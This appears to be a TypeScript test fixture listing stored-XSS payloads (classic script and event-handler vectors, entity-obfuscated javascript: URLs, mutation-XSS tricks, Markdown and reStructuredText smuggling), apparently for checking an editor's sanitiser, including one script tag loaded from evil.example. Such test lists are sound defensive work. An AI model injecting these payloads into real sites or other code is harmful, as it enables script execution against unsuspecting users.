/**
 * Stored-XSS payloads, by the markup they are written in: classic vectors, entity- and
 * whitespace-obfuscated `javascript:` URLs, mutation XSS that relies on parser differences,
 * and the Markdown and reStructuredText ways of smuggling the same.
 */
export const HTML_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">b</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">c</a>',
  '<a href="java&#x09;script:alert(1)">d</a>',
  '<a href=" javascript:alert(1)">e</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">f</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)" style="background:url(javascript:alert(1))">hover</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<img src="x.png" srcset="javascript:alert(1) 1x">',
  '"><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<style>@import "javascript:alert(1)";</style>',
]

export const MARKDOWN_PAYLOADS = [
  '[click](javascript:alert(1))',
  '![x](javascript:alert(1))',
  '[a](<javascript:alert(1)>)',
  '[x](JAVASCRIPT:alert(1) "t")',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">raw</a>',
  '```\n</code><script>alert(1)</script>\n```',
  '[ref]\n\n[ref]: javascript:alert(1)',
]

export const RESTRUCTUREDTEXT_PAYLOADS = [
  '.. raw:: html\n\n   <script>alert(1)</script>',
  '`click <javascript:alert(1)>`_',
  '.. image:: javascript:alert(1)',
  '<script>alert(1)</script>',
  '.. |x| raw:: html\n\n   <img src=x onerror=alert(1)>\n\n|x|',
]

/** For plain text fields (titles, names, quotes): they must come out escaped. */
export const TEXT_PAYLOADS = ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "'onmouseover='alert(1)", '{{ 7*7 }}<svg onload=alert(1)>']

/** For Lexical link nodes. */
export const LINK_PAYLOADS = ['javascript:alert(1)', ' JavaScript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)']

export function payloadCount(): number {
  return HTML_PAYLOADS.length + MARKDOWN_PAYLOADS.length + RESTRUCTUREDTEXT_PAYLOADS.length + TEXT_PAYLOADS.length + LINK_PAYLOADS.length
}
